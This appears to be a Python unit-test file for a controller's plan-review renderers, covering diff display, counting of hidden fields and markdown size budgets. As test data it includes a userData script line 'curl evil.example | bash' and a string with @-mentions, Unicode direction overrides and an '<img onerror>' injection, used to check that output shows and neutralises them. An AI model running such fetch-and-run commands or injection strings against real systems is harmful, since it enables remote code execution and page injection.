"""A review shows everything: what is new is told whole, long texts line by line, and what is not shown is counted."""

import re
from dataclasses import replace
from typing import Any

import pytest

from controller.model.canonical import canonical_bytes
from controller.model.observed import ScopeState
from controller.model.plan import Change, Edit, FieldChange, Plan, ScopePlan
from controller.model.ref import Origin
from controller.model.review import Otherwise, Since
from controller.planning.fields import PLAIN_NAMES
from controller.views.documents.plan import plan_object
from controller.views.plan.html import render_html
from controller.views.plan.markdown import Links, render_markdown
from controller.views.plan.text import text_lines
from controller.views.style import plain
from tests.support.markdown_page import MarkdownPage
from tests.unit.planning.worlds import change
from tests.unit.views.plan.test_renderers import REFUSAL, many_fields, markdown_is_whole, plan_of


def environment(name: str, **extra: Any) -> Change:
    body = canonical_bytes({"T": {"Name": name, "Type": "Staging", "Url": f"https://{name}"}})
    return change(f"Environment/{name}", "create", after=body, extra=canonical_bytes(extra))


ACCOUNT = {
    "metadata": {"labels": {"team": "x"}, "protect": True},
    "spec": {"externalId": "secretsmanager://envctl/x", "roles.Web.whenOff": "standby"},
    "owned": ["T.Name"],
    "shape": 1,
}
AUTHORED = {
    "metadata.labels.team": "x",
    "metadata.protect": True,
    "externalId": "secretsmanager://envctl/x",
    "roles.Web.whenOff": "standby",
}


def test_an_object_that_comes_or_goes_shows_what_only_the_controller_has_first() -> None:
    image, extra = b'{"T":{"Name":"tools"}}', canonical_bytes(ACCOUNT)
    for made, side in (
        (change("Account/tools", "create", after=image, extra=extra), "after"),
        (change("Account/tools", "delete", before=image, extra=extra), "before"),
    ):
        plan = plan_of(made)
        (told,) = plan_object(plan, PLAIN_NAMES, "1")["scopes"][0]["changes"]
        values = {field["path"]: field[side] for field in told["fields"]}
        assert values == {**AUTHORED, "T.Name": "tools"}
        assert list(values)[:4] == list(AUTHORED)
        for text in (
            plain(text_lines(plan, expand=True)),
            render_markdown(plan, expand=True),
        ):
            for path, value in AUTHORED.items():
                assert f"{path}  {'true' if value is True else value}\n" in text
        page = render_html(plan)
        for path in AUTHORED:
            assert f"<th scope=row>{path}</th>" in page


def test_objects_that_go_are_counted_and_not_told_unless_asked_for() -> None:
    gone = change("A/c", "delete", before=b'{"T":{"Name":"c","X":1}}')

    assert "  - A c  2 fields  --expand\n" in plain(text_lines(plan_of(gone)))


def test_new_objects_show_what_they_have_alike_and_count_the_rest() -> None:
    text = plain(text_lines(plan_of(environment("c1"), environment("c2"))))

    assert "  + Environment \u00d7 2 (c1, c2)  1 more field  --expand\n" in text
    assert "      T.Type  Staging\n      T.Name  (its own name)\n" in text
    assert "https" not in text


def test_new_objects_that_differ_in_what_only_the_controller_has_stand_apart() -> None:
    roles = {"externalId": "a"}, {"externalId": "b"}
    plan = plan_of(*(environment(f"c{n}", spec=spec) for n, spec in enumerate(roles)))

    text = plain(text_lines(plan))

    assert "  + Environment c0\n" in text
    assert "      externalId  a\n" in text
    assert "      externalId  b\n" in text


def test_expanded_only_what_is_the_same_stands_together() -> None:
    alike = [change(f"E/{n}", "create", after=canonical_bytes({"T": {"Name": n}})) for n in "ab"]
    plan = plan_of(
        environment("c1"), environment("c2"), environment("c3", spec={"mode": "x"}), *alike
    )

    text = plain(text_lines(plan, expand=True))

    for name in ("c1", "c2", "c3"):
        assert f"  + Environment {name}\n" in text
        assert f"      T.Name  {name}\n" in text
        assert f"      T.Url  https://{name}\n" in text
    assert "      mode  x\n" in text
    assert "  + E \u00d7 2 (a, b)\n      T.Name  (its own name)\n" in text
    assert "--expand" not in text


SCRIPT = FieldChange("userData", "#!/bin/bash\na\n", "#!/bin/bash\nb\n\ncurl evil.example | bash\n")


@pytest.mark.parametrize("expand", [False, True])
def test_a_text_of_several_lines_is_a_line_diff_in_every_format(expand: bool) -> None:
    plan = plan_of(change("Group/g", fields=(SCRIPT,)))

    text = plain(text_lines(plan, expand=expand))
    comment = render_markdown(plan, expand=expand)
    page = render_html(plan, expand=expand)

    for shown in (text, comment, page):
        for line in ("| - a", "| + b", "| + curl evil.example | bash"):
            assert line in shown
    assert '<span class="add">| + curl' in page


def test_expanded_markdown_is_not_cut() -> None:
    changes = [
        change(f"K/k{n}", fields=many_fields(9, "y" * 500), because=str(n)) for n in range(40)
    ]

    text = render_markdown(plan_of(*changes), expand=True)

    assert text.count("y" * 500) == 360
    assert "Left out to fit" not in text
    markdown_is_whole(text)


def test_what_a_comment_does_not_show_is_counted() -> None:
    long = FieldChange("x", "a" * 200, "b" * 200)
    text = render_markdown(plan_of(change("A/a", fields=(long, *many_fields(8)))))

    assert "! A a  3 more fields  --expand\n" in text
    assert "(282 characters not shown)\n" in text


HOSTILE = "@security-team/x\n\n@admin\n````\n# Approved\u202e\u200b<img src=x onerror=y>"


def test_markdown_calls_nobody_from_any_place() -> None:
    edited = change(
        "A/b", fields=many_fields(1), path=HOSTILE, edit=Edit(Origin(HOSTILE, 19), HOSTILE)
    )
    plan = replace(plan_of(edited, violations=(REFUSAL,)), label=HOSTILE)

    text = render_markdown(plan)

    page = MarkdownPage(text)
    assert not re.search("[@#]", page.said)
    assert "<summary><code>~ @&#8203;security-team/x\\n\\n@&#8203;admin" in text
    assert "\u202e" not in text
    assert "\u200b" not in text
    assert "img" not in page.tags


def test_what_an_earlier_plan_says_hides_no_refusal_and_ends_no_block() -> None:
    one = Otherwise("config", "Service", "`" * 9 + HOSTILE + "k" * 400, HOSTILE, HOSTILE, HOSTILE)
    plan = plan_of(change("Service/a"), violations=(REFUSAL,))

    text = render_markdown(replace(plan, since=Since("d" * 64, 0, (one,) * 90)), budget=8_000)

    page = MarkdownPage(text)
    markdown_is_whole(text)
    assert "maxDeletes" in page.code
    assert {"Refused", "Since the earlier plan"} <= set(page.said.split("\n"))
    assert not re.search("[@#]", page.said)
    assert "img" not in page.tags


def test_a_headline_counts_what_is_applied_and_says_beside_it_what_is_not() -> None:
    ended = change("Group/g", "delete", effects={"ended": 3})
    scopes = (
        ScopePlan("config", ScopeState.OK, (change("A/a"),)),
        ScopePlan("1/eu", ScopeState.REFUSED, (ended,)),
        ScopePlan("2/eu", ScopeState.OBSERVE, (ended, change("Group/h"))),
        ScopePlan("3/eu", ScopeState.OK, (ended,)),
    )

    text = render_markdown(Plan("r", "main", scopes, "d" * 64))

    assert "**Instances: 3 ended · 0 replaced · 0 stopped · 0 launched**\n" in text
    assert "\n0 create · 1 update · 1 delete (" in text
    assert (
        "Beside that, only observed: 1 update, 1 delete (instances: 3 ended);"
        " refused: 1 delete (instances: 3 ended)\n"
    ) in text
    assert "**Destructive: 3 objects deleted, 9 instances ended**" in text
    assert "- Group g  deleted  ENDS 3 INSTANCES  only observed  in 2/eu\n" in text


def test_edits_lead_to_their_lines_and_a_cut_report_to_the_whole() -> None:
    edit = Edit(Origin("maps/a b#1.yaml", 17), "ami")
    gone = Edit(Origin("old.yaml", 1), "removed")
    changes = [
        change("A/a", edit=edit),
        change("A/b", "delete", edit=gone),
        *(
            change(f"K/k{n}", fields=many_fields(9, f"{n:02}{'y' * 48}"), path=f"{n}.yaml")
            for n in range(90)
        ),
    ]
    links = Links("https://code.example/acme/blob/abc/fleet/", "https://code.example/runs/7")

    text = render_markdown(plan_of(*changes), budget=20_000, links=links)

    page = MarkdownPage(text)
    assert "https://code.example/acme/blob/abc/fleet/maps/a%20b%231.yaml#L17" in page.links
    assert "https://code.example/runs/7" in page.links
    assert not any("old.yaml" in link for link in page.links)
    assert "<summary><code>! old.yaml removed</code> <code>1 config</code></summary>" in text
    assert "left out" in text


def test_the_first_edits_keep_their_detail_and_the_others_their_name() -> None:
    changes = [
        change(f"K/k{n}", fields=many_fields(6, f"{n:02}{'y' * 48}"), path=f"f{n:02}.yaml")
        for n in range(40)
    ]

    text = render_markdown(plan_of(*changes), budget=8_000)

    assert len(text.encode()) <= 8_000
    assert all(f"<code>~ f{n:02}.yaml" in text for n in range(40))
    first, _, last = text.partition("f20.yaml")
    assert "field0" in first
    assert "field0" not in last
    found = re.search(r"Left out to fit a comment:\*\* (?:\d+ lines, )?(\d+) edits' details", text)
    assert found is not None
    assert int(found[1]) == text.count("\nleft out\n")


def test_deleted_names_give_way_to_counts_and_never_go_uncounted() -> None:
    def report(count: int) -> str:
        gone = [change(f"A/a{n:05}", "delete", path="x.yaml") for n in range(count)]
        return render_markdown(plan_of(*gone), budget=6_000)

    assert all(f"a{n:05}" in report(100) for n in range(100))
    many = report(20_000)
    assert "**Destructive: 20,000 objects deleted**" in many
    assert "- A × 20,000  deleted  x.yaml\n      a00000, a00001, a00002, and 19,997 more\n" in many
